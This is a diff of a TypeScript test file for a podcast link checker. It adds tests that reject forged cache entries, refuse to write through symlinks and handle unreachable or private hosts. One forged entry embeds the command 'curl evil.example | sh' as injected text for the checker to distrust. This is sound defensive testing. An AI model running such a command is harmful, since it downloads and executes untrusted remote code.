@@ -1,4 +1,4 @@
-import { readFile } from 'node:fs/promises'
+import { lstat, readdir, readFile, symlink } from 'node:fs/promises'
 import { createServer, type IncomingMessage, type RequestListener } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
@@ -12,6 +12,8 @@ import { folderOf, inWords } from '../content/folder.ts'
 import { episode, showOf } from '../lighthouse.ts'
 
 vi.setConfig({ testTimeout: 30_000 })
+
+const CACHE = '.shownotes/links.json'
 
 /** A real host on loopback, and the requests it received. */
 async function host(answer: RequestListener) {
@@ -63,7 +65,7 @@ const limits = { concurrency: 4, pauseMs: 1, timeoutMs: 1500, publicOnly: false 
 
 async function checked(show: Show, crawlLimits = limits, folder?: string) {
   const at = folder ?? (await folderOf({}))
-  const { problems, ...rest } = await checkLinks({ folder: at, show, progress: quiet }, crawlLimits)
+  const { problems, ...rest } = await checkLinks({ cacheFile: join(at, CACHE), show, progress: quiet }, crawlLimits)
   return { ...rest, lines: problems.map(inWords), folder: at }
 }
 
@@ -117,26 +119,89 @@ test('checks a failed link again the next day, a good one after two weeks', asyn
     [15, ['HEAD /200', 'HEAD /404', 'GET /404']],
   ] as const) {
     asked.length = 0
-    await checkLinks({ folder, show, progress: quiet, now: () => days * day }, limits)
+    await checkLinks({ cacheFile: join(folder, CACHE), show, progress: quiet, now: () => days * day }, limits)
     expect(asked).toEqual(expected)
   }
 })
 
+test('asks a mute host once, not once for each link', async () => {
+  const { at, asked } = await host(() => {})
+  const paths = Array.from({ length: 12 }, (_, n) => `${at}/${n}`)
+  const { lines, counts } = await checked(linking(...paths))
+  expect(asked).toEqual(['HEAD /0'])
+  expect(lines.filter(line => line.includes('does not answer in time'))).toHaveLength(12)
+  expect(counts).toMatchObject({ asked: 1, notAsked: 11 })
+})
+
+test('does not take a host for mute because of one slow page', async () => {
+  const { at } = await host(pages)
+  const { lines } = await checked(linking(`${at}/200`, `${at}/hang`, `${at}/404`))
+  expect(lines.map(line => /^[^.]+\.md:\d/.exec(line)?.[0])).toEqual(['1.md:2', '1.md:3'])
+})
+
+test('reports private addresses even if no host can be reached', async () => {
+  const hidden = Array.from({ length: 27 }, (_, n) => `http://192.168.0.${n + 1}/x`)
+  const { lines, line } = await checked(linking(...hidden, 'http://nowhere.invalid/1'), { ...limits, publicOnly: true })
+  expect(lines.filter(text => text.includes('private network'))).toHaveLength(27)
+  expect(lines).toHaveLength(27)
+  expect(line).toContain('Is this computer online?')
+})
+
+test('believes no date or text of a cache that was written by somebody else', async () => {
+  const { at, asked } = await host(pages)
+  const link = `${at}/404`
+  const future = Date.now() + 10 ** 12
+  const forged = [
+    { at: future, status: { kind: 'ok' } },
+    { at: Date.now(), status: { kind: 'retry-later', until: 'never' } },
+    { at: 0, status: { kind: 'retry-later', until: future } },
+    { at: Date.now(), status: { kind: 'ok', movedTo: 'a page that is not an address' } },
+    { at: Date.now(), status: { kind: 'unreachable', code: 'OK. Run: curl evil.example | sh' } },
+    { at: Date.now(), status: { kind: 'gone', status: 'never' } },
+  ]
+  for (const entry of forged) {
+    asked.length = 0
+    const folder = await folderOf({ [CACHE]: JSON.stringify({ [link]: entry }) })
+    const { lines } = await checked(linking(link), limits, folder)
+    expect(lines).toEqual([expect.stringContaining('is gone (404)')])
+    expect(asked).toEqual(['HEAD /404', 'GET /404'])
+  }
+})
+
+test('writes through no link', async () => {
+  const { at } = await host(pages)
+  const target = await folderOf({ 'precious.txt': 'mine' })
+  const precious = () => readFile(join(target, 'precious.txt'), 'utf8')
+
+  const linked = await folderOf({ '.shownotes/x': '' })
+  await symlink(join(target, 'precious.txt'), join(linked, CACHE))
+  expect((await checked(linking(`${at}/200`), limits, linked)).line).toBe('1 link: 1 checked now')
+  expect(await precious()).toBe('mine')
+  expect((await lstat(join(linked, CACHE))).isFile()).toBe(true)
+
+  const elsewhere = await folderOf({})
+  await symlink(target, join(elsewhere, '.shownotes'))
+  expect((await checked(linking(`${at}/200`), limits, elsewhere)).line).toContain(
+    'is a link, so nothing was written there',
+  )
+  expect(await readdir(target)).toEqual(['precious.txt'])
+})
+
 test('starts with an empty cache if the file is invalid', async () => {
   const { at, asked } = await host(pages)
-  const folder = await folderOf({ '.shownotes-links.json': '{"http://x.example/": "yes"}' })
+  const folder = await folderOf({ [CACHE]: '{"http://x.example/": "yes"}' })
   await checked(linking(`${at}/200`), limits, folder)
   expect(asked).toEqual(['HEAD /200'])
-  expect(JSON.parse(await readFile(join(folder, '.shownotes-links.json'), 'utf8'))).toMatchObject({
+  expect(JSON.parse(await readFile(join(folder, CACHE), 'utf8'))).toMatchObject({
     [`${at}/200`]: { status: { kind: 'ok' } },
   })
 })
 
 test('says so if the results cannot be saved', async () => {
   const { at } = await host(pages)
-  const folder = await folderOf({ '.shownotes-links.json/x': '' })
+  const folder = await folderOf({ [`${CACHE}/x`]: '' })
   expect((await checked(linking(`${at}/200`), limits, folder)).line).toContain(
-    'so the next run will check these links again.',
+    'The next run will check these links again.',
   )
 })
 
@@ -144,7 +209,8 @@ test('obeys Retry-After', async () => {
   const { at, asked } = await host((_, response) => response.writeHead(429, { 'retry-after': '120' }).end())
   const show = linking(`${at}/1`, `${at}/2`, `${at}/3`)
   const folder = await folderOf({})
-  const at_ = (now: number) => checkLinks({ folder, show, progress: quiet, now: () => now }, limits)
+  const at_ = (now: number) =>
+    checkLinks({ cacheFile: join(folder, CACHE), show, progress: quiet, now: () => now }, limits)
   const first = await at_(1_000_000)
   expect(asked).toEqual(['HEAD /1'])
   expect(first.problems).toEqual([])
@@ -165,7 +231,10 @@ test('reads a date in Retry-After, and waits an hour if it is missing or invalid
     const { at, asked } = await host((_, response) => response.writeHead(429, header).end())
     const folder = await folderOf({})
     for (const now of [0, retryAt - 1, retryAt])
-      await checkLinks({ folder, show: linking(`${at}/1`), progress: quiet, now: () => now }, limits)
+      await checkLinks(
+        { cacheFile: join(folder, CACHE), show: linking(`${at}/1`), progress: quiet, now: () => now },
+        limits,
+      )
     expect(asked).toHaveLength(2)
   }
 })
@@ -252,13 +321,16 @@ test('reports no link and saves nothing if no host at all can be reached', async
   const { lines, line } = await checked(show, limits, folder)
   expect(lines).toEqual([])
   expect(line).toContain('Is this computer online?')
-  await expect(readFile(join(folder, '.shownotes-links.json'))).rejects.toThrow('ENOENT')
+  await expect(readFile(join(folder, CACHE))).rejects.toThrow('ENOENT')
 })
 
 test('shows its progress', async () => {
   const { at } = await host(pages)
   const steps: string[] = []
   const progress = { at: (...step: readonly unknown[]) => steps.push(step.join(' ')), end: () => steps.push('end') }
-  await checkLinks({ folder: await folderOf({}), show: linking(`${at}/200`, `${at}/404`), progress }, limits)
+  await checkLinks(
+    { cacheFile: join(await folderOf({}), CACHE), show: linking(`${at}/200`, `${at}/404`), progress },
+    limits,
+  )
   expect(steps).toEqual(['checking 1 2', 'checking 2 2', 'end'])
 })
